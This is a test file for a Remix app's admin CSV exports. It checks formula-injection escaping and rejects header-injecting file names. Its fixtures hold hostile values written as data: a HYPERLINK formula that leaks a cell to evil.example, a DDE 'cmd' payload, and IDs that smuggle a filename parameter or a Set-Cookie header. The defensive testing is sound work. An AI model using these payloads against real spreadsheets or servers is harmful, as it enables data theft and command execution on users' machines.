import fs from 'node:fs'
import path from 'node:path'
import { type LoaderFunctionArgs } from '@remix-run/node'
import { type Dashboard, dashboardTableRows } from '~/domain/dashboard/dashboard.server'
import { createAccount, createUser } from '#tests/fixtures/factories'
import { loader as accountsCsv } from '~/routes/admin.accounts[.]csv'
import { loader as funnelCsv } from '~/routes/admin.campaigns.funnel[.]csv'
import { loader as payoutCsv } from '~/routes/admin.commission.payouts.$batchId[.]csv'
import { csvResponse } from './csv-response.server'
import { createSessionCookie } from './auth.server'
import { prisma } from './db.server'

/** Calls a CSV route's loader as a new manager, the way Remix would for `path`. */
async function download(
  loader: (args: LoaderFunctionArgs) => Promise<Response>,
  path: string,
  params: Record<string, string> = {},
) {
  const manager = await createUser({ role: 'MANAGER' })
  const cookie = (await createSessionCookie(manager.id)).split(';')[0]!
  const request = new Request(`http://localhost${path}`, { headers: { Cookie: cookie } })
  return loader({ request, params, context: { cspNonce: '', clientIp: '127.0.0.1' } })
}

/** The status a loader answers with, whether it returns or throws its Response. */
async function statusOf(response: Promise<Response>): Promise<number> {
  try {
    return (await response).status
  } catch (thrown) {
    if (thrown instanceof Response) return thrown.status
    throw thrown
  }
}

// What an outside probe sent: a quote that opens a second parameter, a line break, an em dash
// and an ideographic space (neither is Latin-1).
const HOSTILE_IDS = ['x"; filename=evil.html', 'x\r\nSet-Cookie: a=b', 'x\u2014', 'x\u3000y', '']

describe('CSV exports', () => {
  it('writes an account named as a formula as text, not as a formula', async () => {
    const account = await createAccount()
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Clique")'
    await prisma.account.update({
      where: { id: account.id },
      data: { tradeName: formula, legalName: "+cmd|' /C calc'!A0", city: '@SUM(A1:A2)' },
    })
    const response = await download(accountsCsv, '/admin/accounts.csv')
    const line = (await response.text()).split('\r\n').find((l) => l.startsWith(account.cnpj))!
    expect(line.split(';').slice(0, 4)).toEqual([
      account.cnpj,
      `"'+cmd|' /C calc'!A0"`,
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Clique"")"`,
      `"'@SUM(A1:A2)"`,
    ])
  })
})

describe('every CSV export', () => {
  it('is written through csvResponse, so every cell goes through the formula guard', () => {
    const routes = fs.readdirSync(path.resolve('app/routes')).filter((f) => /csv\]?\.tsx$/.test(f))
    expect(routes.length).toBeGreaterThanOrEqual(5)
    for (const route of routes) {
      const source = fs.readFileSync(path.resolve('app/routes', route), 'utf8')
      expect([route, source.includes('csvResponse(')]).toEqual([route, true])
    }
    // The only other writer of CSV is the import templates, through csvLine.
    const writers = fs
      .readdirSync(path.resolve('app/routes'))
      .filter((f) =>
        fs.readFileSync(path.resolve('app/routes', f), 'utf8').includes(`'text/csv; charset`),
      )
    expect(writers).toEqual(['admin.imports.template.$file.tsx'])
  })

  it('keeps money, negative amounts included, as numbers, and a rep named as a formula as text', async () => {
    const dashboard = {
      revenueByRep: [
        { rep: '=HYPERLINK("http://evil.example","x")', online: -1250, offline: 123456 },
        { rep: 'Ana, -Sul', online: 0, offline: -123456 },
      ],
    } as unknown as Dashboard
    const text = await csvResponse('reps.csv', dashboardTableRows(dashboard, 'reps')).text()
    expect(text).toBe(
      [
        'representante;online_R$;importado_R$',
        `"'=HYPERLINK(""http://evil.example"",""x"")";-12,50;1234,56`,
        '"Ana, -Sul";0,00;-1234,56',
        '',
      ].join('\r\n'),
    )
  })
})

describe('download names', () => {
  it('answers 404 for a payout batch id that is not an id, and never puts it in a header', async () => {
    for (const batchId of HOSTILE_IDS) {
      const path = `/admin/commission/payouts/${encodeURIComponent(batchId)}.csv`
      expect([batchId, await statusOf(download(payoutCsv, path, { batchId }))]).toEqual([
        batchId,
        404,
      ])
    }
  })

  it('answers 400 for a funnel campaign that is not an id', async () => {
    for (const campaign of HOSTILE_IDS.filter(Boolean)) {
      const path = `/admin/campaigns/funnel.csv?campaign=${encodeURIComponent(campaign)}`
      expect([campaign, await statusOf(download(funnelCsv, path))]).toEqual([campaign, 400])
    }
  })

  it('names the file after a well-formed id, and the whole funnel without one', async () => {
    const one = await download(funnelCsv, '/admin/campaigns/funnel.csv?campaign=clx0abc_12-z')
    expect(one.headers.get('Content-Disposition')).toBe(
      'attachment; filename="reativa-funil-clx0abc_12-z.csv"',
    )
    const all = await download(funnelCsv, '/admin/campaigns/funnel.csv?campaign=')
    expect(all.headers.get('Content-Disposition')).toBe('attachment; filename="reativa-funil.csv"')
    const batch = await download(payoutCsv, '/admin/commission/payouts/clx0abc.csv', {
      batchId: 'clx0abc',
    })
    expect(batch.headers.get('Content-Disposition')).toBe(
      'attachment; filename="reativa-pagamento-clx0abc.csv"',
    )
  })

  it('spells a non-ASCII file name as RFC 6266 filename*, with an ASCII fallback', () => {
    const response = csvResponse('relatório "maio"\r\n—.csv', [])
    const header = response.headers.get('Content-Disposition')!
    expect(header).toMatch(/^[\x20-\x7e]+$/)
    expect(header).toContain(`filename*=UTF-8''relat%C3%B3rio%20%22maio%22%0D%0A%E2%80%94.csv`)
    expect(header.match(/filename=/g)).toHaveLength(1)
  })
})
